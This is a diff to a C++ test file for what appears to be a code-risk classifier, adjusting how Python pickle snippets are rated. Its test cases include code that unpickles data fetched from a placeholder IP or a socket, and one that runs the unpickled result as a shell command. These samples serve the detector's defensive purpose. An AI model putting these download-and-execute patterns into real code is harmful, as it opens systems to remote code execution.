@@ -100,12 +100,25 @@ TEST(Mechanisms, FileContentFlowsThroughPaths) {
   for (const auto& c : cases) check(c);
 }
 
-TEST(Mechanisms, UnpicklingDownloadedDataRunsIt) {
+// The rubric lists pickle among the risky constructs (MEDIUM) whatever the
+// data's source: writers of four labelled rounds rated workers that unpickle
+// what a socket or broker hands them MEDIUM. A pickle hidden as a decoded
+// constant is an obfuscated payload (BLOCKED).
+TEST(Mechanisms, UnpicklingIsARiskyConstructWhateverItsSource) {
   const Case cases[] = {
-      {"pickle.loads of a download", B,
+      {"pickle.loads of a download", M,
        "import pickle, urllib.request\nobj = pickle.loads(urllib.request.urlopen('http://203.0.113.4/o.pkl').read())\n",
-       "REMOTE-CODE-EXECUTION"},
+       "UNSAFE-DESERIALIZATION"},
+      {"a broker's messages unpickled", M,
+       "import pickle, socket\ns = socket.create_connection(('broker.internal', 7001))\n"
+       "while True:\n    task = pickle.loads(s.recv(65536))\n    print(task)\n",
+       "UNSAFE-DESERIALIZATION"},
       {"pickle of a hidden constant", B, "import pickle, base64\npickle.loads(base64.b64decode('gASVAAAAAAAAAAA='))\n"},
+      {"a download unpickled and its result run", B,
+       "import pickle, subprocess, urllib.request\n"
+       "cmd = pickle.loads(urllib.request.urlopen('http://203.0.113.4/o.pkl').read())\n"
+       "subprocess.run(cmd, shell=True)\n",
+       "REMOTE-CODE-EXECUTION"},
       {"pickle of its own cache file stays an insecure practice", M,
        "import pickle\nwith open('cache.pkl', 'rb') as f:\n    state = pickle.load(f)\n"},
   };
